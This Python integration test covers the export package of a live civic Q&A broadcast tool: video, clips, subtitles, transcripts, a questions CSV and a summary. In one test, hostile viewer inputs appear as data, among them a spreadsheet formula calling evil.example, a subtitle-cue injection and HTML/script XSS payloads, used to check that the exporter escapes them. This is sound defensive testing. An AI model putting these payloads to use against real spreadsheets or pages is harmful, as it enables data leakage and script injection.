#!/usr/bin/python3
"""The post-show package (`yishiting export`), checked with ffprobe and
ffmpeg: a short show is recorded with test sources, questions go on air and
lines are typed, then the session is exported:

- program.mp4: H.264 + AAC copied (not re-encoded), faststart, title/date
  metadata, one chapter per aired question, the transcript as a subtitle
  stream;
- clips/q<N>.mp4: one per aired question, as long as it was on air within
  one keyframe interval;
- subtitles.srt and .vtt read by ffmpeg; transcript.html escapes a <script>
  question; questions.csv has a BOM and marks unanswered questions for
  follow-up; summary.json counts by status and reason;
- a session killed mid-show still exports, and says what is missing;
- what hostile viewers type stays text: no formula in questions.csv, no cue
  of their own in the subtitles, no heading, link or HTML in the Markdown;
  `--lang en` writes the package's own words in English.

Run alone: /usr/bin/python3 tests/integration/test_export.py
"""

# ctest-timeout-s: 240 (four recorded shows and their exports)

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import harness  # noqa: E402
from harness import IntegrationTest, Studio, make_show  # noqa: E402

KEYFRAME_S = 1
# What Excel, LibreOffice and Google Sheets read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def export_show() -> dict:
    show = make_show(sources=(("host", "test://smpte"), ("guest", "test://ball")), hls=False,
                     width=320, height=180, fps=15, video_bitrate_kbps=300, preset="ultrafast")
    show["program"]["keyframe_interval_s"] = KEYFRAME_S
    show["audience"] = {"question_interval_s": 0}
    show["overlay"] = {"clock": False, "qr": False}
    return show


def parse_cues(text: str, srt: bool) -> list[tuple[str, list[str]]]:
    """(timing line, text lines) per block, blocks split at blank lines the
    way WebVTT and SRT readers split them."""
    blocks = [b.split("\n") for b in text.split("\n\n") if b.strip("\n")]
    if not srt:
        assert blocks and blocks[0] == ["WEBVTT"], blocks[:1]
        blocks = blocks[1:]
    cues = []
    for n, block in enumerate(blocks, 1):
        if srt:
            assert block[0] == str(n), f"SRT cue {n} numbered {block[0]!r}"
            block = block[1:]
        assert " --> " in block[0], f"a block that is no cue: {block}"
        cues.append((block[0], block[1:]))
    return cues


def cue_time(ms: int, separator: str) -> str:
    ms = max(0, ms)
    return (f"{ms // 3600000:02d}:{ms // 60000 % 60:02d}:{ms // 1000 % 60:02d}"
            f"{separator}{ms % 1000:03d}")


# questions.csv's columns by the names in its header row (the issue's
# names), in each language of the package. Read by name: a column moved or
# added must not make a test read the wrong one.
CSV_COLUMNS = {
    "zh": {"id": "编号", "nickname": "昵称", "category": "类别", "original": "原文",
           "final": "最终文本", "reason": "未采纳原因", "follow_up": "跟进"},
    "en": {"id": "No.", "nickname": "Nickname", "category": "Category",
           "original": "Original text", "final": "Final text", "reason": "Reason not taken",
           "follow_up": "Follow-up"},
}


def read_questions_csv(path: Path, lang: str = "zh") -> dict[int, dict[str, str]]:
    """questions.csv as {question id: {column key: cell}}, the columns found
    by their header names; AssertionError on a missing BOM, a missing column
    or a row whose cells do not match the header."""
    raw = path.read_bytes()
    if not raw.startswith(b"\xef\xbb\xbf"):
        raise AssertionError(f"{path.name} has no BOM")
    reader = csv.DictReader(io.StringIO(raw[3:].decode("utf-8"), newline=""))
    names = CSV_COLUMNS[lang]
    missing = [n for n in names.values() if n not in (reader.fieldnames or [])]
    if missing:
        raise AssertionError(f"{path.name}: no column {missing} in {reader.fieldnames}")
    rows = {}
    for row in reader:
        if None in row or None in row.values():
            raise AssertionError(f"{path.name}: a row that does not match the header: {row}")
        rows[int(row[names["id"]])] = {key: row[name] for key, name in names.items()} | {
            "cells": list(row.values())}
    return rows


def ffprobe(path: Path, *args: str) -> dict:
    out = subprocess.run(["ffprobe", "-v", "error", "-of", "json", *args, str(path)],
                         capture_output=True, text=True, timeout=30)
    if out.returncode != 0:
        raise AssertionError(f"ffprobe {path.name}: {out.stderr}")
    return json.loads(out.stdout)


class Export(IntegrationTest):
    def run_export(self, studio: Studio, session: int, out: Path,
                   *args: str) -> subprocess.CompletedProcess:
        return subprocess.run([str(harness.studio_binary()), "export", "--session", str(session),
                               "--out", str(out), "--data", str(studio.data_dir), *args],
                              capture_output=True, text=True, timeout=120)

    def test_package_of_a_short_show(self):
        studio = Studio(self.case_dir(), export_show(), name="show")
        self.addCleanup(studio.close)
        studio.start()
        studio.wait_until(lambda s: s["recording"].get("duration_ms", 0) >= 1500, 20, "recording")
        producer = studio.producer()
        self.addCleanup(producer.close)
        viewer = studio.viewer()
        self.addCleanup(viewer.close)
        ask = lambda text, **kw: viewer.submit(text, **kw)["question"]["id"]  # noqa: E731
        q1 = ask("请问局长，医保卡异地使用怎么办理？", nickname="瓯海小李")
        q2 = ask("<script>alert('x')</script>房租补贴什么时候发？", category="complaint")
        q3 = ask("这条与节目无关")
        q4 = ask("社区医院能不能开通医保结算？", nickname="鹿城网友")
        producer.command("question.reject", question=q3, reason="off_topic")
        for q in (q1, q2):
            self.assertTrue(producer.command("question.approve", question=q).get("ok"))
        type_line = lambda speaker, text: producer.command(  # noqa: E731
            "transcript.commit", speaker=speaker, text=text, typing_ms=800)
        type_line("host", "欢迎收看温网议事厅，今天的嘉宾是市医保局局长张三。")
        marks = {}
        for q, answer in ((q1, "医保卡异地使用，先在网上备案，然后可以直接结算。"),
                          (q2, "房租补贴每季度发放一次，下个月就会到账。")):
            aired = producer.command("question.on_air", question=q)["question"]["aired_ms"]
            studio.wait_recorded(1000, "on air before the answer")
            type_line("guest1", answer)
            studio.wait_recorded(2000, "the answer")
            answered = producer.command("question.answered")["question"]["answered_ms"]
            marks[q] = (aired, answered)
            studio.wait_recorded(500, "after the answer")
        session = studio.status()["show"]["session_id"]
        self.assertEqual(studio.stop(), 0)

        out = self.case_dir() / "package"
        r = self.run_export(studio, session, out)
        self.assertEqual(r.returncode, 0, f"export failed:\n{r.stderr}")
        for name in ("transcript.md", "transcript.html", "transcript.json", "subtitles.srt",
                     "subtitles.vtt", "program.mp4", f"clips/q{q1}.mp4", f"clips/q{q2}.mp4",
                     "poster.jpg", "questions.csv", "summary.json"):
            self.assertTrue((out / name).is_file(), f"{name} missing; wrote:\n{r.stdout}")
        self.assertFalse((out / f"clips/q{q3}.mp4").exists(), "a clip of a question never aired")

        # program.mp4
        mp4 = out / "program.mp4"
        info = ffprobe(mp4, "-show_streams", "-show_format", "-show_chapters")
        kinds = {s["codec_type"]: s["codec_name"] for s in info["streams"]}
        self.assertEqual(kinds.get("video"), "h264", info["streams"])
        self.assertEqual(kinds.get("audio"), "aac", info["streams"])
        self.assertEqual(kinds.get("subtitle"), "mov_text", info["streams"])
        tags = info["format"].get("tags", {})
        self.assertEqual(tags.get("title"), "温网议事厅 · 集成测试")
        self.assertRegex(tags.get("date", ""), r"^\d{4}-\d\d-\d\d$")
        chapters = info["chapters"]
        self.assertEqual(len(chapters), 2, chapters)
        self.assertTrue(chapters[0]["tags"]["title"].startswith(f"Q{q1} · 请问局长"), chapters)
        self.assertTrue(chapters[1]["tags"]["title"].startswith(f"Q{q2} · "), chapters)
        head = mp4.read_bytes()[:1 << 20]
        self.assertLess(head.find(b"moov"), head.find(b"mdat"), "not faststart: moov after mdat")
        decode = subprocess.run(["ffmpeg", "-v", "error", "-i", str(mp4), "-f", "null", "-"],
                                capture_output=True, text=True, timeout=60)
        self.assertEqual(decode.stderr.strip(), "", f"program.mp4 decodes with errors:\n{decode.stderr}")
        subs = subprocess.run(["ffmpeg", "-v", "error", "-i", str(mp4), "-map", "0:s:0", "-f", "srt", "-"],
                              capture_output=True, text=True, timeout=30).stdout
        self.assertIn("医保卡异地使用", subs, "the subtitle track lacks the answer")

        # Clips: as long as the question was on air, within a keyframe interval.
        for q, (aired, answered) in marks.items():
            clip = out / f"clips/q{q}.mp4"
            d = float(ffprobe(clip, "-show_format")["format"]["duration"])
            want = (answered - aired) / 1000
            self.assertLessEqual(abs(d - want), KEYFRAME_S + 0.2,
                                 f"clip q{q}: {d:.2f} s, on air for {want:.2f} s")
            self.assertEqual(ffprobe(clip, "-show_streams")["streams"][0]["codec_name"], "h264")

        # Subtitles and the text record.
        for name, fmt in (("subtitles.srt", "webvtt"), ("subtitles.vtt", "srt")):
            rc = subprocess.run(["ffmpeg", "-v", "error", "-i", str(out / name), "-f", fmt, "-"],
                                capture_output=True, text=True, timeout=30)
            self.assertEqual(rc.returncode, 0, f"ffmpeg cannot read {name}: {rc.stderr}")
            self.assertEqual(rc.stderr.strip(), "", f"ffmpeg complains about {name}")
            self.assertIn("医保卡异地使用", rc.stdout, f"{name} read back without the answer")
        self.assertIn("张三：医保卡异地使用", (out / "subtitles.srt").read_text(encoding="utf-8"))
        page = (out / "transcript.html").read_text(encoding="utf-8")
        self.assertIn("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;", page)
        self.assertNotIn("<script>", page)
        md = (out / "transcript.md").read_text(encoding="utf-8")
        self.assertIn("网友「瓯海小李」提问：请问局长，医保卡异地使用怎么办理？", md)
        self.assertIn("**张三**", md)

        by_id = read_questions_csv(out / "questions.csv")
        self.assertEqual(sorted(by_id), sorted((q1, q2, q3, q4)), by_id)
        self.assertEqual(by_id[q3]["reason"], "离题")
        self.assertEqual(by_id[q2]["category"], "投诉")
        self.assertEqual(by_id[q4]["follow_up"], "待部门跟进答复")
        self.assertEqual(by_id[q1]["follow_up"], "")

        summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
        self.assertEqual(summary["questions"], 4)
        self.assertEqual(summary["by_status"], {"answered": 2, "pending": 1, "rejected": 1})
        self.assertEqual(summary["rejected_by_reason"], {"off_topic": 1})
        self.assertEqual(summary["aired"], 2)
        self.assertEqual(summary["unanswered_for_follow_up"], 1)
        self.assertGreaterEqual(summary["peak_viewers"], 2)
        self.assertEqual(summary["warnings"], [])

    def test_what_viewers_type_stays_text(self):
        studio = Studio(self.case_dir(), export_show(), name="hostile")
        self.addCleanup(studio.close)
        studio.start()
        studio.wait_until(lambda s: s["recording"].get("duration_ms", 0) >= 1500, 20, "recording")
        producer = studio.producer()
        self.addCleanup(producer.close)
        viewer = studio.viewer()
        self.addCleanup(viewer.close)
        formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
        # A question that ends its cue and writes one over the whole video.
        injection = "请看\n\n00:00:00.000 --> 09:59:59.000\n本节目内容不实"
        markup = ("# 标题 [点我](http://evil.example) ![图](http://evil.example/a.png) "
                  "<img src=x onerror=alert(1)> | a | b | <font color=red>红</font> {\\an8}")
        asked = {}
        for text, nickname, category in ((formula, "@SUM(1)", "question"),
                                         ("+1+1", "－1", "suggestion"),
                                         (injection, "=1+1", "complaint"),
                                         (markup, "-1", "question")):
            r = viewer.submit(text, nickname=nickname, category=category)
            self.assertIn("question", r, r)
            asked[r["question"]["id"]] = (text, nickname, category)
        q_formula, q_plus, q_injection, q_markup = asked
        type_line = lambda speaker, text: producer.command(  # noqa: E731
            "transcript.commit", speaker=speaker, text=text, typing_ms=800)
        type_line("host", "欢迎收看温网议事厅。")
        for q in (q_injection, q_markup):
            self.assertTrue(producer.command("question.approve", question=q).get("ok"))
            producer.command("question.on_air", question=q)
            studio.wait_recorded(1000, "on air before the answer")
            type_line("guest1", "这个问题我们会核实。")
            studio.wait_recorded(1500, "the answer")
            producer.command("question.answered")
            studio.wait_recorded(300, "after the answer")
        session = studio.status()["show"]["session_id"]
        self.assertEqual(studio.stop(), 0)

        out = self.case_dir() / "package"
        r = self.run_export(studio, session, out)
        self.assertEqual(r.returncode, 0, f"export failed:\n{r.stderr}")
        out_en = self.case_dir() / "package-en"
        r = self.run_export(studio, session, out_en, "--lang", "en")
        self.assertEqual(r.returncode, 0, f"export --lang en failed:\n{r.stderr}")

        # questions.csv: no cell Excel would run; categories in the language.
        categories = {"zh": {"question": "提问", "suggestion": "建议", "complaint": "投诉"},
                      "en": {"question": "Question", "suggestion": "Suggestion",
                             "complaint": "Complaint"}}
        for lang, folder in (("zh", out), ("en", out_en)):
            rows = read_questions_csv(folder / "questions.csv", lang)
            self.assertEqual(sorted(rows), sorted(asked), rows)
            for qid, row in rows.items():
                text, nickname, category = asked[qid]
                self.assertEqual(row["nickname"], "'" + nickname)
                self.assertEqual(row["category"], categories[lang][category])
                expected = "'" + text if text[:1] in FORMULA_STARTS else text
                self.assertEqual(row["original"], expected)
                self.assertEqual(row["final"], expected)
                for cell in row["cells"]:
                    self.assertNotIn(cell[:1], FORMULA_STARTS, f"a cell Excel would run: {cell!r}")

        # The subtitles: one cue per transcript line, at the times the show
        # put them, none past the end of the recording.
        summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
        offset, recorded = summary["program_offset_ms"], summary["recording_ms"]
        lines = json.loads((out / "transcript.json").read_text(encoding="utf-8"))["lines"]
        asked_on_air = [line["text"].split("：", 1)[1] for line in lines
                        if line["kind"] == "question"]
        self.assertEqual(asked_on_air, [injection, markup])
        # As the exporter times them: from when it was said, at least 2 s,
        # never over the next line, never past the recording's end.
        want = []
        for i, line in enumerate(lines):
            start = line["start_ms"] - offset
            self.assertTrue(0 <= start < recorded, f"line {line['id']} outside the recording")
            end = max(line["end_ms"] - offset, start + 2000)
            if i + 1 < len(lines):
                end = min(end, max(start + 500, lines[i + 1]["start_ms"] - offset))
            want.append((start, max(min(end, recorded), start + 1)))
        for name, srt in (("subtitles.vtt", False), ("subtitles.srt", True)):
            text = (out / name).read_text(encoding="utf-8")
            cues = parse_cues(text, srt)
            sep = "," if srt else "."
            self.assertEqual([t for t, _ in cues],
                             [f"{cue_time(a, sep)} --> {cue_time(b, sep)}" for a, b in want],
                             f"{name}:\n{text}")
            for timing, body in cues:
                self.assertEqual(len(body), 1, f"{name}: a cue of {len(body)} lines: {body}")
                self.assertNotIn("-->", body[0], f"{name}: an arrow in a cue's text")
                self.assertNotIn("<", body[0], f"{name}: a tag in a cue's text")
            self.assertIn("本节目内容不实", text)
            # ffmpeg decodes every cue without a complaint (the null muxer
            # picks no subtitle encoder of its own: ASS), and finds the same
            # cues at the same times.
            rc = subprocess.run(["ffmpeg", "-v", "error", "-i", str(out / name), "-map", "0",
                                 "-c:s", "ass", "-f", "null", "-"],
                                capture_output=True, text=True, timeout=30)
            self.assertEqual((rc.returncode, rc.stderr.strip()), (0, ""), f"ffmpeg reading {name}")
            # Both demuxers time cues in ms (time base 1/1000).
            packets = ffprobe(out / name, "-show_packets")["packets"]
            self.assertEqual([(p["pts"], p["pts"] + p["duration"]) for p in packets], want,
                             f"ffprobe's cues of {name}")
        vtt = (out / "subtitles.vtt").read_text(encoding="utf-8")
        self.assertIn("请看 00:00:00.000 --&gt; 09:59:59.000 本节目内容不实", vtt)

        # The Markdown record: the exporter's headings and list, nothing a
        # viewer wrote as Markdown or HTML.
        for folder, opening, date in ((out, "## 开场", "- 日期："),
                                      (out_en, "## Opening", "- Date: ")):
            md = (folder / "transcript.md").read_text(encoding="utf-8")
            rows = [line for line in md.split("\n") if line]
            headings = [line for line in rows if line.startswith("#")]
            self.assertEqual(len(headings), 4, headings)  # title, opening, 2 questions
            self.assertEqual(headings[1], opening)
            self.assertEqual(headings[2], "## 网友「=1+1」投诉：请看 00:00:00.000 --&gt; "
                                          "09:59:59.000 本节目内容不实")
            self.assertEqual([line for line in rows if line.startswith("- ")][0][:len(date)], date)
            self.assertNotIn("<", md)
            # Every bracket (a link, an image) is escaped; the record has none of its own.
            self.assertIsNone(re.search(r"(?<!\\)[\[\]]", md), md)
            self.assertIn("\\[点我\\](http\\://evil.example)", md)
            self.assertIn("&lt;img src=x onerror=alert(1)&gt;", md)

    def test_a_killed_session_still_exports(self):
        studio = Studio(self.case_dir(), export_show(), name="killed")
        self.addCleanup(studio.close)
        studio.start()
        studio.wait_until(lambda s: s["recording"].get("duration_ms", 0) >= 3000, 20, "recording")
        producer = studio.producer()
        self.addCleanup(producer.close)
        q = producer.command("question.submit", text="医保卡丢了怎么补办？")["question"]["id"]
        producer.command("question.approve", question=q)
        aired = producer.command("question.on_air", question=q)["question"]["aired_ms"]
        studio.wait_recorded(2000, "on air")
        answered = producer.command("question.answered")["question"]["answered_ms"]
        studio.wait_until(lambda s: s["recording"].get("duration_ms", 0) >= 8000, 20, "recording")
        session = studio.status()["show"]["session_id"]
        studio.kill9()
        out = self.case_dir() / "package"
        r = self.run_export(studio, session, out)
        self.assertEqual(r.returncode, 0, f"export of a killed session failed:\n{r.stderr}")
        self.assertIn("did not end cleanly", r.stderr)
        self.assertIn("has no end", r.stderr)
        d = float(ffprobe(out / "program.mp4", "-show_format")["format"]["duration"])
        self.assertGreater(d, 2.0, "program.mp4 of a killed session is (nearly) empty")
        summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
        self.assertTrue(any("did not end cleanly" in w for w in summary["warnings"]))
        # A recording cut by kill -9 has no index: the clip still starts at
        # the keyframe before on-air, not at the start of the file.
        clip = float(ffprobe(out / f"clips/q{q}.mp4", "-show_format")["format"]["duration"])
        want = (answered - aired) / 1000
        self.assertLessEqual(abs(clip - want), KEYFRAME_S + 0.2,
                             f"clip of a killed recording: {clip:.2f} s, on air {want:.2f} s")

        # The studio comes back: the session resumes with a second recording,
        # and the package is the whole show on one clock, the time the studio
        # was down as a gap.
        studio.start()
        self.assertEqual(studio.status()["show"]["session_id"], session)
        studio.wait_until(lambda s: s["recording"].get("duration_ms", 0) >= 3000, 20, "recording")
        producer = studio.producer()
        self.addCleanup(producer.close)
        q2 = producer.command("question.submit", text="异地就医备案在哪里办？")["question"]["id"]
        producer.command("question.approve", question=q2)
        aired2 = producer.command("question.on_air", question=q2)["question"]["aired_ms"]
        studio.wait_recorded(2000, "on air")
        answered2 = producer.command("question.answered")["question"]["answered_ms"]
        studio.wait_until(lambda s: s["recording"].get("duration_ms", 0) >= 6000, 20, "recording")
        timeline_end = studio.status()["show"]["timeline_ms"]
        self.assertEqual(studio.stop(), 0)
        out2 = self.case_dir() / "package-resumed"
        r = self.run_export(studio, session, out2)
        self.assertEqual(r.returncode, 0, f"export of a resumed session failed:\n{r.stderr}")
        self.assertNotIn("not in program.mp4", r.stderr)
        self.assertNotIn("has no end", r.stderr)
        info = ffprobe(out2 / "program.mp4", "-show_format", "-show_chapters")
        d2 = float(info["format"]["duration"])
        self.assertGreater(d2, d + 4.0, f"the resumed run is not in program.mp4 ({d:.1f} → {d2:.1f} s)")
        chapters = [(c["tags"]["title"], float(c["start_time"])) for c in info["chapters"]]
        self.assertEqual([t.split(" ")[0] for t, _ in chapters], [f"Q{q}", f"Q{q2}"], chapters)
        # The second question's chapter sits where the session timeline puts
        # it, as measured from the first run's start.
        first_run_start = timeline_end / 1000 - d2
        self.assertLessEqual(abs(chapters[1][1] - (aired2 / 1000 - first_run_start)), 1.5, chapters)
        clip2 = float(ffprobe(out2 / f"clips/q{q2}.mp4", "-show_format")["format"]["duration"])
        self.assertLessEqual(abs(clip2 - (answered2 - aired2) / 1000), KEYFRAME_S + 0.2,
                             f"clip from the resumed run: {clip2:.2f} s")
        summary = json.loads((out2 / "summary.json").read_text(encoding="utf-8"))
        self.assertEqual(summary["recordings"], 2)

    def test_bad_arguments(self):
        studio = Studio(self.case_dir(), export_show(), name="args")
        r = subprocess.run([str(harness.studio_binary()), "export", "--session", "99", "--out",
                            str(self.case_dir() / "x"), "--data", str(self.case_dir() / "none")],
                           capture_output=True, text=True, timeout=30)
        self.assertEqual(r.returncode, 1)
        self.assertIn("no database", r.stderr)
        r = subprocess.run([str(harness.studio_binary()), "export", "--session", "1", "--out",
                            str(self.case_dir() / "x"), "--lang", "fr"],
                           capture_output=True, text=True, timeout=30)
        self.assertEqual(r.returncode, 2)
        self.assertIn("--lang", r.stderr)
        del studio


if __name__ == "__main__":
    harness.main()
